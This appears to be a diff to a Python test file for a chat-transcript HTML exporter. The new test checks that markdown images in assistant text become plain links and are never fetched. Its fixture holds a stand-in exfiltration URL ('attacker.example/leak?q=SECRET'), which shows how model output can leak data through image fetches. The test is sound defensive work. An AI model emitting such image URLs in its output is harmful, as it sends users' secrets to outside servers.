@@ -101,7 +101,7 @@ def test_no_script_or_handler_from_untrusted_text(payload):
             "id": "s",
             "kind": "tool",
             "name": "x",
-            "shown": r.RichResult(kind="json", data={"d": payload}, summary=payload).model_dump(mode="json"),
+            "shown": r.json_result({"d": payload}, summary=payload).model_dump(mode="json"),
         },
     ]
     page = to_html(hostile, chat_id=payload, title=payload)
@@ -141,3 +141,18 @@ def test_markdown_export_reads_as_a_conversation():
     )
     assert "> ❓ Drop 3 rows?\n> → Yes" in text
     assert "```\nDataFrame: 2 rows\n```" in text and "_cleaning expanded · 2 tools_" in text
+
+
+def test_images_in_model_text_are_links_never_fetched():
+    """An <img> from model text would be fetched by whoever opens the page: data to any server."""
+    text = "![chart](https://attacker.example/leak?q=SECRET) [![in](https://a.example/i.png)](https://b.example/) ![d](data:image/png;base64,AAAA)"
+    page = to_html([{"id": "a", "kind": "assistant", "text": text}])
+    parser = Tags()
+    parser.feed(page)
+    assert "img" not in parser.tags
+    assert (
+        "🖼 image from attacker.example: chart" in page
+        and 'href="https://attacker.example/leak?q=SECRET"' in page
+    )
+    assert "🖼 image from a.example: in" in page and page.count("<a ") == 2  # no link inside a link
+    assert "[image: d]" in page
